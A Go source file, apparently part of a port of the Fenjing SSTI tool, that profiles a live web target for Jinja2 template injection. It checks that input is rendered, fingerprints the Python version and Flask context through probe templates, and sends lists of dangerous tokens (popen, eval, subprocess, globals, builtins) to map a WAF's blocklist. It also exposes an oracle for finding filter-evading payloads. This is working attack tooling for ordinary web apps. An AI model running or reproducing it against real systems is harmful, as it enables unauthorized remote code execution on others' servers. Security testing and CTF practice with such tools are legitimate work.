package profile

import (
	"context"
	"errors"
	"fmt"
	"log/slog"
	"strings"

	"github.com/fuucckk/Fenjing/pkg/defaults"
	"github.com/fuucckk/Fenjing/pkg/options"
	"github.com/fuucckk/Fenjing/pkg/payload"
	"github.com/fuucckk/Fenjing/pkg/submit"
)

// ErrUnresponsive means the target never reflected a benign probe, so
// nothing downstream can be measured.
var ErrUnresponsive = errors.New("profile: target does not reflect input")

// Probe keyword sets. The fast set covers the tokens the default rules
// actually emit; the full set adds everything an overzealous filter is
// known to match on.
var (
	fastKeywords = []string{
		"{{", "}}", "{%", "%}",
		"'", "\"", ".", "[", "]", "(", ")",
		"_", "__", "|", "~", "+", "*", "%",
		"os", "popen", "eval", "config", "class", "attr",
		"lipsum", "cycler", "joiner", "globals", "builtins",
		"request", "import", "self",
	}
	fullExtraKeywords = []string{
		"{#", "#}", ":", ",", "=", "-", "/", "<", ">",
		"0", "1", "2",
		"read", "get", "pop", "init", "dict", "join", "map", "batch",
		"items", "first", "last", "list", "reverse", "int", "string",
		"subprocess", "system", "flag", "cat", "base", "mro",
		"getitem", "getattr", "flashed", "url_for", "g",
		"if", "else", "print", "for", "endif",
		"\\", "x5f", "x2e", "chr", "format",
	}
)

// Profiler drives the probing state machine over one submitter.
type Profiler struct {
	sub  submit.Submitter
	opts options.Options
	log  *slog.Logger

	profile Profile
}

// New builds a profiler. The logger may be nil.
func New(sub submit.Submitter, opts options.Options, log *slog.Logger) *Profiler {
	if log == nil {
		log = slog.Default()
	}
	return &Profiler{
		sub:  sub,
		opts: opts,
		log:  log,
		profile: Profile{
			Version:     options.PythonUnknown,
			Environment: options.EnvUnknown,
			blockPages:  make(map[Fingerprint]bool),
		},
	}
}

// Run advances through every probing stage and returns the profile.
// Version, context and keyword stages degrade to "unknown" on inconclusive
// probes; only an unresponsive target is fatal.
func (p *Profiler) Run(ctx context.Context) (*Profile, error) {
	if err := p.checkResponsiveness(ctx); err != nil {
		return nil, err
	}
	p.classifyVersion(ctx)
	p.classifyContext(ctx)
	p.profileKeywords(ctx)
	p.profile.State = StateReady
	return &p.profile, nil
}

// checkResponsiveness submits a benign marker and requires it reflected,
// then records the baseline response shape.
func (p *Profiler) checkResponsiveness(ctx context.Context) error {
	for i := 0; i < defaults.ResponsivenessProbes; i++ {
		m := marker()
		res, err := p.sub.Submit(ctx, m)
		if err != nil {
			return fmt.Errorf("profile: responsiveness probe: %w", err)
		}
		if !strings.Contains(res.Text, m) {
			p.log.Warn("input not reflected", "probe", i+1)
			p.profile.Reflects = false
			return ErrUnresponsive
		}
		p.profile.baseline = fingerprint(res.StatusCode, res.Text, m)
	}

	// Distinguish a template sink from a literal echo: a comment probe
	// disappears when an engine interprets it.
	probe := "{#" + marker() + "#}"
	res, err := p.sub.Submit(ctx, probe)
	if err != nil {
		return fmt.Errorf("profile: interpretation probe: %w", err)
	}
	if strings.Contains(res.Text, probe) {
		p.log.Warn("control sequences echoed verbatim, input is not rendered")
		return ErrUnresponsive
	}

	p.profile.Reflects = true
	p.profile.State = StateResponsive
	p.log.Info("target reflects input", "status", p.profile.baseline.Status)
	return nil
}

// probeEchoes submits a template probe that renders m only when cond holds
// on the target, and reports whether m came back.
func (p *Profiler) probeEchoes(ctx context.Context, m, tmpl string) bool {
	res, err := p.sub.Submit(ctx, tmpl)
	if err != nil {
		return false
	}
	return strings.Contains(res.Text, m)
}

// classifyVersion distinguishes interpreter generations by which string
// methods exist: probing an attribute in a conditional renders the marker
// only when the attribute is present, without calling anything.
func (p *Profiler) classifyVersion(ctx context.Context) {
	m := marker()
	if p.probeEchoes(ctx, m, "{{'"+m+"' if 'x'.isdecimal else ''}}") {
		p.profile.Version = options.Python3
		p.profile.Subversion = p.probeSubversion(ctx)
	} else {
		m2 := marker()
		if p.probeEchoes(ctx, m2, "{{'"+m2+"' if 'x'.decode else ''}}") {
			p.profile.Version = options.Python2
		}
	}
	p.profile.State = StateVersioned
	p.log.Info("interpreter classified",
		"version", string(p.profile.Version), "subversion", p.profile.Subversion)
}

// probeSubversion narrows a python3 target by the newest str method it has.
func (p *Profiler) probeSubversion(ctx context.Context) int {
	probes := []struct {
		method string
		minor  int
	}{
		{"removeprefix", 9},
		{"isascii", 7},
	}
	for _, probe := range probes {
		m := marker()
		if p.probeEchoes(ctx, m, "{{'"+m+"' if 'x'."+probe.method+" else ''}}") {
			return probe.minor
		}
	}
	return 0
}

// classifyContext checks whether web-framework context objects are in the
// template namespace.
func (p *Profiler) classifyContext(ctx context.Context) {
	m := marker()
	if p.probeEchoes(ctx, m, "{{'"+m+"' if g else ''}}") {
		p.profile.Environment = options.EnvFlask
	} else {
		p.profile.Environment = options.EnvJinja2
	}
	p.profile.State = StateContexted
	p.log.Info("context classified", "environment", string(p.profile.Environment))
}

// profileKeywords submits suspicious tokens one at a time and records which
// come back blocked, fingerprinting every block page seen.
func (p *Profiler) profileKeywords(ctx context.Context) {
	keywords := p.keywordSet()
	if keywords == nil {
		p.profile.State = StateKeyworded
		return
	}

	for _, keyword := range keywords {
		res, err := p.sub.Submit(ctx, keyword)
		if err != nil {
			p.log.Warn("keyword probe failed", "keyword", keyword, "err", err)
			continue
		}
		fp := fingerprint(res.StatusCode, res.Text, keyword)
		blocked := fp != p.profile.baseline &&
			(res.StatusCode != p.profile.baseline.Status || !strings.Contains(res.Text, keyword))
		if blocked {
			p.profile.Blocked = append(p.profile.Blocked, keyword)
			p.profile.blockPages[fp] = true
		}
	}
	p.profile.State = StateKeyworded
	p.log.Info("keyword profile complete",
		"probed", len(keywords), "blocked", len(p.profile.Blocked))
}

func (p *Profiler) keywordSet() []string {
	// An operator-declared blocklist makes probing redundant noise.
	if len(p.opts.Keywords) > 0 {
		return nil
	}
	switch p.opts.KeywordProbing {
	case options.ProbeFast:
		return fastKeywords
	case options.ProbeFull:
		return append(append([]string(nil), fastKeywords...), fullExtraKeywords...)
	default:
		return nil
	}
}

// Oracle returns the live oracle over the profiled target: a candidate is
// accepted when submitting it does not land on a block page. Transport
// errors are surfaced so the resolver counts them as indeterminate rather
// than as a confirmed rejection.
func (p *Profiler) Oracle(ctx context.Context) payload.Oracle {
	return func(candidate string) (bool, error) {
		res, err := p.sub.Submit(ctx, candidate)
		if err != nil {
			return false, err
		}
		if p.profile.BlockedPage(res.StatusCode, res.Text, candidate) {
			return false, nil
		}
		return true, nil
	}
}
